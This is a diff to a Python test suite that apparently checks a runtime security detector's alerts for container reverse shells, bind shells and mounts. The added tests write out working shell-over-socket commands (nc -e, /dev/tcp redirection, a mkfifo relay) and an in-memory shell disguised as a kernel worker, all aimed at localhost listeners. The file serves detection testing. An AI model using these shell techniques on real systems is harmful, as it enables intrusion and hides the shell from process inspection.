@@ -16,11 +16,24 @@ import unittest
 from harness import Container, Daemon, Follower, Listener, wait_until
 
 SHELL = "Reverse shell"
+RELAY = "Network relay on a named pipe"
 BLOCK_DEVICE = "Container mounts a block device"
 HOST_PROC = "Container mounts the host's proc"
 CGROUPS = "Container mounts a cgroup hierarchy"
 KUBELET_CONTAINER = "Kubelet API called from a container"
 KUBELET_NODE = "Unexpected kubelet API call on the node"
+
+# A shell as a memfd under another name, on a socket: first connected, then put on the streams.
+IN_MEMORY = """
+import os, socket, sys
+peer = socket.create_connection(("::1", int(sys.argv[1])))
+shell = os.memfd_create("kworker")
+with open("/bin/sh", "rb") as file:
+    os.write(shell, file.read())
+for stream in range(3):
+    os.dup2(peer.fileno(), stream)
+os.execve(shell, ["[kworker/0:1]"], {"PATH": "/usr/bin:/bin"})
+"""
 
 
 def container_of(alert):
@@ -101,6 +114,49 @@ class Attack(unittest.TestCase):
         heard, port = listener.converse("id")
         self.check_shell(container, listener, port, heard, "sh")
 
+    def test_busybox_by_its_own_name(self):
+        listener = self.listener()
+        container = self.container("/bin/busybox", "nc", "127.0.0.1", str(listener.port),
+                                   "-e", "/bin/busybox", "sh")
+        heard, port = listener.converse("id")
+        self.check_shell(container, listener, port, heard, "busybox")
+
+    def test_descriptor_in_the_hundreds_over_ipv6(self):
+        listener = self.listener(0, socket.AF_INET6)
+        container = self.container(
+            "/usr/bin/bash", "-c",
+            f"0<&196; exec 196<>/dev/tcp/::1/{listener.port}; sh <&196 >&196 2>&196; true")
+        heard, port = listener.converse("id")
+        self.assertIn("uid=0", heard)
+        self.expect(SHELL, container.id[:12], evt_type="execve",
+                    proc_stdin_name=f"::1:{port}->::1:{listener.port}")
+
+    def test_bind_shell(self):
+        with socket.socket() as probe:
+            probe.bind(("127.0.0.1", 0))
+            port = probe.getsockname()[1]
+        container = self.container("/bin/nc", "-l", "-p", str(port), "-e", "/bin/sh")
+
+        def connected():
+            try:
+                return socket.create_connection(("127.0.0.1", port))
+            except ConnectionRefusedError:
+                return None
+
+        with wait_until(connected, "the bind shell to listen") as peer:
+            ours = peer.getsockname()[1]
+            self.expect(SHELL, container.id[:12],
+                        proc_stdin_name=f"127.0.0.1:{port}->127.0.0.1:{ours}")
+
+    def test_shell_behind_a_named_pipe(self):
+        listener = self.listener()
+        container = self.container(
+            "/bin/sh", "-c", "busybox mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | "
+                             f"busybox nc 127.0.0.1 {listener.port} >/tmp/f")
+        heard, _ = listener.converse("id")
+        self.assertIn("uid=0", heard)
+        self.expect(RELAY, container.id[:12], proc_stdout_name="/tmp/f")
+
     def test_shell_in_the_container_says_where_it_came_from_after_leaving_it(self):
         listener = self.listener()
         with tempfile.TemporaryDirectory() as directory:
@@ -137,6 +193,17 @@ class Attack(unittest.TestCase):
                             proc_stdin_name=f"127.0.0.1:{port}->127.0.0.1:{listener.port}")
         self.assertEqual(alert["origin"], "host")
         self.assertIn(os.getpid(), [a["pid"] for a in alert["ancestors"]])
+
+    def test_program_in_memory_on_the_host(self):
+        listener = self.listener(0, socket.AF_INET6)
+        program = subprocess.Popen(
+            ["/usr/bin/python3", "-c", IN_MEMORY, str(listener.port)],
+            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        self.addCleanup(program.wait)
+        heard, port = listener.converse("id")
+        self.assertIn("uid=0", heard)
+        self.expect(SHELL, "host", evt_type="execveat",
+                    proc_stdin_name=f"::1:{port}->::1:{listener.port}")
 
     # Breakout by mount
 
@@ -190,6 +257,7 @@ class Attack(unittest.TestCase):
     # Ordinary acts
 
     def test_ordinary_acts_give_no_alert(self):
+        begun = time.time_ns()
         self.interactive_shell()
         subprocess.run(["bash", "-i", "-c", "true"], stdin=subprocess.DEVNULL,
                        stderr=subprocess.DEVNULL, check=True)
@@ -200,18 +268,26 @@ class Attack(unittest.TestCase):
         ours, theirs = socket.socketpair()
         with ours, theirs:  # as sshd and systemd do without a terminal
             subprocess.run(["sh", "-c", "true"], stdin=theirs, stdout=theirs, check=True)
-        container = self.container("/bin/sh", "-c", "echo ordinary; nc -w 1 127.0.0.1 "
+        with socket.socket() as waiting:  # as inetd with "wait", or a service started by its socket
+            waiting.bind(("127.0.0.1", 0))
+            waiting.listen()
+            subprocess.run(["sh", "-c", "true"], stdin=waiting, check=True)
+        for shell in ("sh", "bash"):
+            subprocess.run([shell], input=b"id", stdout=subprocess.PIPE, check=True)
+        container = self.container("/bin/sh", "-c", "echo ordinary | cat; nc -w 1 127.0.0.1 "
                                    f"{listener.port} </dev/null; ls /mnt")
         listener.accept()[0].close()
         container.finish()
         marker = self.container("/bin/sh", "-c", "mount -t cgroup2 c /mnt", privileged=True)
         marker.finish()
         self.expect(CGROUPS, marker.id[:12])
-        every = (SHELL, BLOCK_DEVICE, HOST_PROC, CGROUPS, KUBELET_CONTAINER, KUBELET_NODE)
+        every = {SHELL, RELAY, BLOCK_DEVICE, HOST_PROC, CGROUPS, KUBELET_CONTAINER, KUBELET_NODE}
         self.none_of(*every, containers=[container.id[:12]])
-        ours_pids = [a for a in self.watch.matching(lambda a: container_of(a) == "host")
-                     if a["rule"] not in (SHELL, KUBELET_NODE)]
-        self.assertEqual(ours_pids, [])
+        # Of this process and what it started since, whatever the rule; not what else the node does.
+        alarms = self.watch.matching(
+            lambda a: container_of(a) == "host" and a["output_fields"]["evt.time"] >= begun
+            and os.getpid() in [b["pid"] for b in a["ancestors"]])
+        self.assertEqual(alarms, [])
 
     def interactive_shell(self):
         pid, master = pty.fork()
